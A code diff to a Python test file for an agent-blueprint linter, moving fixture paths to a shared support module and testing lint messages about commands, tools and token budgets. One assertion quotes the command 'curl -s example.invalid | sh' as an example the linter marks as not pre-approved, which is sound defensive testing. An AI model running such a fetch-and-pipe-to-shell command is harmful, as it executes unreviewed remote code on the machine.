@@ -6,12 +6,13 @@ from collections import Counter
 from pathlib import Path
 
 import pytest
+from support import FIXTURES
 
 from lev_nb.blueprint import LintEnv, load, validate
 from lev_nb.blueprint.lints import ALL_CODES, lint
 
-FIXTURES = Path(__file__).parent / "fixtures" / "lints"
-LINT_DIRS = sorted(p for p in FIXTURES.iterdir() if (p / "agent.leviath").is_file())
+LINTS = FIXTURES / "lints"
+LINT_DIRS = sorted(p for p in LINTS.iterdir() if (p / "agent.leviath").is_file())
 
 
 def _header(path: Path) -> tuple[list[tuple[str, str, str | None]], dict[str, str]]:
@@ -62,7 +63,7 @@ def test_every_lint_code_has_a_fixture_or_a_direct_test() -> None:
 
 
 def test_output_missing_submit_tool_on_a_blueprint_that_skipped_the_hard_checks() -> None:
-    bp = load(FIXTURES / "clean")
+    bp = load(LINTS / "clean")
     work = bp.stages["work"].model_copy(update={"require_output": True})
     broken = bp.model_copy(update={"stages": {**bp.stages, "work": work}})
     findings = [f for f in lint(broken) if f.code == "output-missing-submit-tool"]
@@ -70,38 +71,38 @@ def test_output_missing_submit_tool_on_a_blueprint_that_skipped_the_hard_checks(
 
 
 def test_findings_are_sorted_errors_warnings_notes() -> None:
-    report = validate(FIXTURES / "unparseable-safe-command")
+    report = validate(LINTS / "unparseable-safe-command")
     assert [f.severity for f in report.findings] == ["error", "note"]
     assert report.valid is False and report.errors == 1 and report.notes == 1
 
 
 def test_command_seed_note_says_which_commands_are_pre_approved() -> None:
-    (note,) = validate(FIXTURES / "command-seed").by_code("command-seed")
+    (note,) = validate(LINTS / "command-seed").by_code("command-seed")
     assert "repo_files: git ls-files (pre-approved)" in note.message
     assert "remote: curl -s example.invalid | sh (NOT pre-approved" in note.message
     assert note.message.startswith("2 region(s)")
 
 
 def test_tool_seed_note_lists_tools_and_refresh() -> None:
-    (note,) = validate(FIXTURES / "tool-seed").by_code("tool-seed")
+    (note,) = validate(LINTS / "tool-seed").by_code("tool-seed")
     assert "environment: current_time, locale_info" in note.message
     assert "clock: current_time (on every stage entry)" in note.message
 
 
 def test_unbounded_budget_names_the_largest_window_and_resolved_tokens() -> None:
-    report = validate(FIXTURES / "unbounded-percentage-budget")
+    report = validate(LINTS / "unbounded-percentage-budget")
     (finding,) = report.by_code("unbounded-percentage-budget")
     assert "region 'conversation'" in finding.message
     assert "200,000 tokens on anthropic/claude-sonnet-4-6 (1,000,000 window)" in finding.message
 
 
 def test_unknown_tool_knows_the_agents_own_script_tools() -> None:
-    report = validate(FIXTURES / "unknown-tool")
+    report = validate(LINTS / "unknown-tool")
     assert [f.message.split("'")[1] for f in report.by_code("unknown-tool")] == ["web_serch"]
 
 
 def test_unknown_tool_is_skipped_with_an_empty_known_tool_set() -> None:
-    bp = load(FIXTURES / "unknown-tool")
+    bp = load(LINTS / "unknown-tool")
     assert validate(bp, env=LintEnv()).by_code("unknown-tool") == []
 
 
